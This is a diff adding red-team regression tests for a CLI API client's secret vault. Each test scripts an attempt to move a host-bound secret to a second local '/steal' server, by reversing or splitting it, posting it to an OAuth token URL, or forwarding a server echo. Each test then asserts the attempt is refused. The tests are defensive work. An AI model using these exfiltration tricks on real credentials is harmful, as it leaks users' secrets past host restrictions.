@@ -283,3 +283,172 @@ def test_oauth_to_an_allowed_token_url_still_works(run_cli, tmp_path, recording_
     result = _run(run_cli, tmp_path, api("a", "API", "c", recording_server.url + "/api", auth_=oauth))
     assert result.code == 0, result
     assert recording_server.requests.to("/api")[0].header("Authorization") == "Bearer at-123456789"
+
+
+# --- red-team round 2 ----------------------------------------------------------------------------------------------
+#
+# Secrets shorter than the gate's search length (8) are followed by name and by confinement only,
+# and a transformed copy (reversed, split) by confinement only: each route below used to let one out.
+
+TINY = "Zq5w9"  # below MIN_SEARCH_LENGTH, above the redactor's inline minimum
+WEE = "k9x"  # below both: masked only as a whole value
+
+
+def _hosts(run_cli: RunCli) -> dict[str, Any]:
+    vault = json.loads(run_cli("vault", "list", "--json").stdout)
+    return {s["key"]: s["allow_hosts"] for s in vault["secrets"]}
+
+
+def _next_run_sends(run_cli, tmp_path, other, key: str) -> CliResult:
+    """A later run that never reads the original: it sends ``{{vault:key}}`` to 127.0.0.2.
+
+    Its collection and outputs are under ``tmp_path / "next-<key>"``."""
+    (tmp_path / f"next-{key}").mkdir()
+    return _run(run_cli, tmp_path / f"next-{key}", api("b", "Send", "c", other.url + "/steal?k={{vault:" + key + "}}",
+                                                headers=[{"key": "X-K", "value": "{{vault:" + key + "}}"}]))
+
+
+# finding 2: values a confined script stores in the vault inherit the hosts, across runs
+
+@pytest.mark.parametrize("secret", [SHORT, TINY], ids=["long", "short"])
+def test_script_stores_a_reversed_copy_and_the_next_run_cannot_send_it(run_cli, tmp_path, recording_server, other, secret):
+    _store(run_cli, "token", secret, "127.0.0.1")
+    first = _run(run_cli, tmp_path, api("a", "Copy", "c", recording_server.url + "/a",
+                                        pre='rq.vault.set("copy", rq.vault.get("token")[::-1])'))
+    assert first.code == 0, first
+    assert _hosts(run_cli)["copy"] == ["127.0.0.1"]  # persisted with the confining hosts
+    later = _next_run_sends(run_cli, tmp_path, other, "copy")
+    _assert_refused(later, key="copy")
+    assert len(other.requests) == 0
+    _assert_never_seen(secret, later, tmp_path / "next-copy", other)
+
+
+def test_script_splits_a_secret_over_two_keys_and_the_next_run_cannot_send_either(
+    run_cli, tmp_path, recording_server, other
+):
+    _store(run_cli, "token", SHORT, "127.0.0.1")
+    pre = 's = rq.vault.get("token")\nrq.vault.set("half1", s[:12])\nrq.vault.set("half2", s[12:].upper())'
+    first = _run(run_cli, tmp_path, api("a", "Split", "c", recording_server.url + "/a", pre=pre))
+    assert first.code == 0, first
+    hosts = _hosts(run_cli)
+    assert hosts["half1"] == ["127.0.0.1"] and hosts["half2"] == ["127.0.0.1"], hosts
+    for key in ("half1", "half2"):
+        _assert_refused(_next_run_sends(run_cli, tmp_path, other, key), key=key)
+    assert len(other.requests) == 0
+
+
+@pytest.mark.parametrize("secret", [TINY, WEE], ids=["5-chars", "3-chars"])
+def test_exact_copy_of_a_short_secret_inherits_its_hosts_without_any_read(run_cli, tmp_path, recording_server, other, secret):
+    """The script never reads the secret (no confinement): the copy is recognised by value."""
+    _store(run_cli, "token", secret, "127.0.0.1")
+    first = _run(run_cli, tmp_path, api("a", "Copy", "c", recording_server.url + "/a",
+                                        pre=f'rq.vault.set("copy", "{secret}")'))
+    assert first.code == 0, first
+    assert _hosts(run_cli)["copy"] == ["127.0.0.1"]
+    _assert_refused(_next_run_sends(run_cli, tmp_path, other, "copy"), key="copy")
+    assert len(other.requests) == 0
+
+
+def test_copy_made_after_reading_secrets_with_disjoint_hosts_is_not_stored(run_cli, tmp_path, recording_server, other):
+    """Confined by two secrets with no host in common, a stored value could go nowhere: refused."""
+    _store(run_cli, "token", SHORT, "127.0.0.1")
+    _store(run_cli, "elsewhere", "other-canary-77", "api.example.com")
+    pre = 'rq.vault.set("copy", rq.vault.get("token")[::-1] + rq.vault.get("elsewhere")[::-1])'
+    result = _run(run_cli, tmp_path, api("a", "Copy", "c", recording_server.url + "/a", pre=pre))
+    error = _assert_refused(result, key="copy")
+    assert error["source"] == "pre-request", error
+    assert "copy" not in _hosts(run_cli)
+    assert len(other.requests) == 0 and len(recording_server.requests) == 0
+
+
+# finding 3: OAuth 2.0 token requests check the vault keys their parameters used, by name
+
+@pytest.mark.parametrize("client_auth", ["header", "body"])
+@pytest.mark.parametrize("secret", [TINY, WEE], ids=["5-chars", "3-chars"])
+def test_oauth_short_client_secret_is_not_posted_to_another_token_url(
+    run_cli, tmp_path, recording_server, other, client_auth, secret
+):
+    _store(run_cli, "cs", secret, "127.0.0.1")
+    other.respond("/token", body={"access_token": "at-0123456789", "expires_in": 60})
+    oauth = auth("OAUTH2", grant_type="client_credentials", accessTokenUrl=other.url + "/token", clientId="me",
+                 clientSecret="{{vault:cs}}", client_authentication=client_auth)
+    result = _run(run_cli, tmp_path, api("a", "API", "c", recording_server.url + "/api", auth_=oauth))
+    _assert_refused(result, key="cs")
+    assert "OAuth token request" in result.json["executions"][0]["error"]["message"]
+    assert len(other.requests) == 0 and len(recording_server.requests) == 0
+
+
+def test_oauth_short_password_is_not_posted_to_another_token_url(run_cli, tmp_path, recording_server, other):
+    _store(run_cli, "pw", TINY, "127.0.0.1")
+    other.respond("/token", body={"access_token": "at-0123456789"})
+    oauth = auth("OAUTH2", grant_type="password", accessTokenUrl=other.url + "/token", clientId="me",
+                 clientSecret="public", username="ada", password="{{vault:pw}}", client_authentication="body")
+    result = _run(run_cli, tmp_path, api("a", "API", "c", recording_server.url + "/api", auth_=oauth))
+    _assert_refused(result, key="pw")
+    assert len(other.requests) == 0
+    _assert_never_seen(TINY, result, tmp_path, other)
+
+
+def test_oauth_short_secret_redirected_to_another_token_url_is_refused(run_cli, tmp_path, recording_server, other):
+    _store(run_cli, "cs", WEE, "127.0.0.1")
+    recording_server.redirect("/token", other.url + "/token", status=307)
+    other.respond("/token", body={"access_token": "at-0123456789"})
+    oauth = auth("OAUTH2", grant_type="client_credentials", accessTokenUrl=recording_server.url + "/token",
+                 clientId="me", clientSecret="{{vault:cs}}", client_authentication="body")
+    result = _run(run_cli, tmp_path, api("a", "API", "c", recording_server.url + "/api", auth_=oauth))
+    _assert_refused(result, key="cs")
+    assert len(other.requests) == 0
+
+
+def test_oauth_short_secret_to_an_allowed_token_url_still_works(run_cli, tmp_path, recording_server):
+    _store(run_cli, "cs", WEE, "127.0.0.1")
+    recording_server.respond("/token", body={"access_token": "at-0123456789", "expires_in": 60})
+    oauth = auth("OAUTH2", grant_type="client_credentials", accessTokenUrl=recording_server.url + "/token",
+                 clientId="me", clientSecret="{{vault:cs}}", client_authentication="body")
+    result = _run(run_cli, tmp_path, api("a", "API", "c", recording_server.url + "/api", auth_=oauth))
+    assert result.code == 0, result
+    assert recording_server.requests.to("/api")[0].header("Authorization") == "Bearer at-0123456789"
+
+
+# finding 4: an rq.sendRequest that renders a host-bound secret confines the script that sent it
+
+@pytest.mark.parametrize("secret", [TINY, WEE], ids=["5-chars", "3-chars"])
+def test_send_request_echo_of_a_short_secret_cannot_be_forwarded(run_cli, tmp_path, recording_server, other, secret):
+    _store(run_cli, "token", secret, "127.0.0.1")
+    pre = (f'res = rq.sendRequest({{"url": "{recording_server.url}/echo", "header": {{"X-K": "{{{{vault:token}}}}"}}}})\n'
+           'got = [v for k, v in res.json()["headers"] if k == "X-K"][0]\n'
+           f'rq.sendRequest("{other.url}/steal?k=" + got[::-1])')
+    result = _run(run_cli, tmp_path, api("a", "Echo", "c", recording_server.url + "/a", pre=pre))
+    error = _assert_refused(result)
+    assert error["source"] == "pre-request" and "127.0.0.2" in error["message"], error
+    assert recording_server.requests[0].header("X-K") == secret  # the allowed host got it
+    assert len(other.requests) == 0
+
+
+def test_send_request_answer_transformed_by_the_server_cannot_be_forwarded(run_cli, tmp_path, recording_server, other):
+    """The allowed server answers with the secret reversed; the script forwards that as is (the
+    receiver reverses it back): no search finds it, confinement does."""
+    _store(run_cli, "token", SHORT, "127.0.0.1")
+    recording_server.respond("/mirror", body={"mirror": SHORT[::-1]})
+    post = (f'res = rq.sendRequest({{"url": "{recording_server.url}/mirror", "header": {{"X-K": "{{{{vault:token}}}}"}}}})\n'
+            f'rq.sendRequest({{"url": "{other.url}/steal", "method": "POST", '
+            '"body": {"mode": "raw", "raw": res.json()["mirror"]}})')
+    result = _run(run_cli, tmp_path, api("a", "Mirror", "c", recording_server.url + "/a", post=post))
+    error = _assert_refused(result)
+    assert error["source"] == "post-response", error
+    assert len(other.requests) == 0
+    _assert_never_seen(SHORT, result, tmp_path, other)
+
+
+def test_send_request_with_a_secret_confines_the_rest_of_the_run(run_cli, tmp_path, recording_server, other):
+    """The script hands the echo to a variable; the next collection request to 127.0.0.2 is refused."""
+    _store(run_cli, "token", TINY, "127.0.0.1")
+    pre = (f'res = rq.sendRequest({{"url": "{recording_server.url}/echo", "method": "POST", '
+           '"body": {"mode": "raw", "raw": "{{vault:token}}"}})\n'
+           'rq.environment.set("stash", res.json()["body"][::-1])')
+    result = _run(run_cli, tmp_path, api("a", "Fetch", "c", recording_server.url + "/a", pre=pre),
+                  api("b", "Send", "c", other.url + "/steal", headers=[{"key": "X-Stash", "value": "{{stash}}"}]))
+    assert result.json["executions"][0]["error"] is None, result
+    _assert_refused(result, 1)
+    assert "follows a script that read it" in result.json["executions"][1]["error"]["message"]
+    assert len(other.requests) == 0
